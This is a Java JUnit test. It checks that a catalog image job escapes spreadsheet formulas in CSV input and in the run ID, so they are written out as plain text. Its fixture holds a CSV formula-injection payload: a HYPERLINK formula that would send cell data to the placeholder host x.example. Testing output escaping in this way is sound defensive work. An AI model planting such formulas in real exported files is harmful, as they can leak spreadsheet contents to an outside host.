package com.catalogimage;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import com.catalogimage.support.JobRun;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import static com.catalogimage.support.CsvFiles.csv;
import static com.catalogimage.support.CsvFiles.summary;
import static org.assertj.core.api.Assertions.assertThat;

/** Catalogs as people and spreadsheets really write them, run through the whole job against the simulator. */
class CatalogInputJobTests {

	@TempDir
	Path workspace;

	@Test
	void aFormulaInTheCatalogOrTheRunIdIsWrittenAsTextInEveryCsv() throws IOException {
		// given: a rejected SKU that Excel would run as a link, and a valid SKU that Excel reads as the formula -A1
		Path input = this.workspace.resolve("products.csv");
		Files.writeString(input, """
				sku,name
				"=HYPERLINK(""http://x.example/?""&A1;""click"")",Mug
				-A1,Bowl
				""");
		JobRun job = new JobRun(this.workspace);
		// when
		JobRun.Result result = job.run("run", "--input", input.toString(), "--run-id", "=1+2");
		// then
		assertThat(result.exitCode()).as(result.err()).isZero();
		List<CSVRecord> rejected = csv(job.output().resolve("rejected.csv"));
		assertThat(rejected).singleElement().satisfies(row -> {
			assertThat(row.get("line")).isEqualTo("2");
			assertThat(row.get("sku")).isEqualTo("'=HYPERLINK(\"http://x.example/?\"&A1;\"click\")");
			assertThat(row.get("field")).isEqualTo("sku");
		});
		assertThat(csv(job.output().resolve("report.csv"))).singleElement().satisfies(row -> {
			assertThat(row.get("sku")).isEqualTo("'-A1");
			assertThat(row.get("status")).isEqualTo("GENERATED");
			assertThat(row.get("image_path")).isEqualTo("images/-A1.png");
		});
		assertThat(summary(job.output().resolve("summary.csv"))).containsEntry("run_id", "'=1+2")
			.containsEntry("rejected_rows", "1");
	}

}
